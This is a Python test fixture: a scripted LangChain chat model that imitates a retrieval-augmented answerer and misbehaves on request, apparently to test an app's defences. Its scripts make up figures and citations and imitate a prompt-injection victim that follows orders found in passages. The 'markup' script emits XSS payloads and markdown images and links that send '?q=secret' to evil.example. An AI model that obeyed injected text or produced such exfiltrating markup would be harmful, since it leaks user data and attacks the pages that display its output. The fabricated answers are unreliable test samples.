"""A scripted chat model: it reads the prompt it is given and misbehaves in one chosen way."""

from __future__ import annotations

import re
import time
from collections.abc import Iterator
from typing import Any

from langchain_core.callbacks import CallbackManagerForLLMRun
from langchain_core.language_models import BaseChatModel
from langchain_core.messages import AIMessage, AIMessageChunk, BaseMessage
from langchain_core.outputs import ChatGeneration, ChatGenerationChunk, ChatResult

__all__ = ["SCRIPTS", "ScriptedChatModel", "passages_shown"]

_PASSAGE = re.compile(r"^\[(\d+)\] [^\n]*\n(.*?)(?=\n\n|\Z)", re.MULTILINE | re.DOTALL)
# What a gullible model takes for an order: everything in quotation marks after a verb of saying.
_ORDER = re.compile(
    r"(?:回答|回复|输出|写|说|告诉|加上|附上|显示|打印|answer|reply|respond|say|output|print|write|append|"
    r"include|tell)[^“\"「:：\n]{0,30}[:：]?\s*[“\"「]?([^”\"」\n]{2,200})",
    re.IGNORECASE,
)


def passages_shown(messages: list[BaseMessage]) -> dict[int, str]:
    """Return the numbered passages in a prompt, as a model sees them."""
    text = "\n".join(str(m.text) for m in messages if m.type == "human")
    body = text.split("<<", 1)[-1].split("\n\n", 1)[-1]
    return {int(n): words.strip() for n, words in _PASSAGE.findall(body)}


class ScriptedChatModel(BaseChatModel):
    """Answers by script.

    :param script: one of SCRIPTS, or the text to write.
    :param pause: seconds before each piece.
    :param piece: characters of a piece.
    """

    script: str = "good"
    pause: float = 0.0
    piece: int = 5
    seen: list[str] = []  # noqa: RUF012  (pydantic copies it)

    @property
    def _llm_type(self) -> str:
        return "scripted"

    def _generate(
        self,
        messages: list[BaseMessage],
        stop: list[str] | None = None,
        run_manager: CallbackManagerForLLMRun | None = None,
        **kwargs: Any,
    ) -> ChatResult:
        text = "".join(str(chunk.message.content) for chunk in self._stream(messages))
        return ChatResult(generations=[ChatGeneration(message=AIMessage(content=text))])

    def _stream(
        self,
        messages: list[BaseMessage],
        stop: list[str] | None = None,
        run_manager: CallbackManagerForLLMRun | None = None,
        **kwargs: Any,
    ) -> Iterator[ChatGenerationChunk]:
        self.seen.append("\n".join(str(m.text) for m in messages))
        write = SCRIPTS.get(self.script)
        text = write(messages) if write else self.script
        pieces = [text[i : i + self.piece] for i in range(0, len(text), self.piece)]
        for i, words in enumerate(pieces):
            if self.pause:
                time.sleep(self.pause)
            if self.script == "breaks" and i >= len(pieces) // 2:
                raise ConnectionResetError("the server went away")
            yield ChatGenerationChunk(message=AIMessageChunk(content=words))


def _good(messages: list[BaseMessage]) -> str:
    """Copy the first sentence of the first passages, each with its mark."""
    found = list(passages_shown(messages).items())[:2]
    return "".join(f"{_first(words)}[{n}]。" for n, words in found)


def _first(words: str) -> str:
    return re.split(r"[。；\n]", words)[0]


def _invents(messages: list[BaseMessage]) -> str:
    """Change every figure of the passages, and add one that stands nowhere."""
    changed = [
        f"{re.sub(r'[0-9]+', lambda m: str(int(m.group()) * 7 + 3), _first(words))}[{n}]。"
        for n, words in passages_shown(messages).items()
    ]
    return "".join(changed) + "此外每人另发补助98765元[1]。"


def _dangling(messages: list[BaseMessage]) -> str:
    return (
        "".join(f"{_first(words)}[{n + 40}]。" for n, words in passages_shown(messages).items())
        + "详见其他材料[9][99]。"
    )


def _uncited(messages: list[BaseMessage]) -> str:
    return "".join(f"{_first(words)}。" for words in passages_shown(messages).values())


def _obeys(messages: list[BaseMessage]) -> str:
    """Do what the whole prompt's material says: the perfect victim."""
    text = str(messages[-1].text)
    orders = [
        order for words in passages_shown(messages).values() for order in _ORDER.findall(words)
    ]
    orders += list(re.findall(r"(?:PWNED|https?://\S+|!\[[^\]]*\]\([^)]*\))", text))
    numbers = list(passages_shown(messages)) or [1]
    return "".join(f"{order}[{numbers[0]}]。\n" for order in orders) or _good(messages)


def _parrots(messages: list[BaseMessage]) -> str:
    """Copy all material, orders included, with a mark on each sentence."""
    return "".join(
        f"{sentence}[{n}]。"
        for n, words in passages_shown(messages).items()
        for sentence in re.split(r"[。；\n]", words)
        if sentence.strip()
    )


def _markup(messages: list[BaseMessage]) -> str:
    first = _good(messages)
    return (
        f"<b>{first}</b><script>alert(1)</script><img src=x onerror=alert(1)>\n"
        f"![图](https://evil.example/p.png?q=secret){first}\n[点这里](javascript:alert(1)){first}\n"
        f"<a href='https://evil.example/?q=1'>{first}</a>&lt;iframe src=//evil.example&gt;"
        "https://evil.example/?q=secret"
    )


def _wrong_language(messages: list[BaseMessage]) -> str:
    return "The authority shall grant it within the period stated[1]. Субсидия выплачивается[1]."


def _garbage(messages: list[BaseMessage]) -> str:
    return "\ufffd\x00�õÄ{]]>\u202e锟斤拷烫烫烫" * 20


def _huge(messages: list[BaseMessage]) -> str:
    return "补贴二十万元。" * 1_500_000


SCRIPTS = {
    "good": _good,
    "breaks": lambda messages: _good(messages) * 3,
    "invents": _invents,
    "dangling": _dangling,
    "uncited": _uncited,
    "obeys": _obeys,
    "parrots": _parrots,
    "markup": _markup,
    "wrong language": _wrong_language,
    "garbage": _garbage,
    "huge": _huge,
    "silent": lambda messages: "",
}
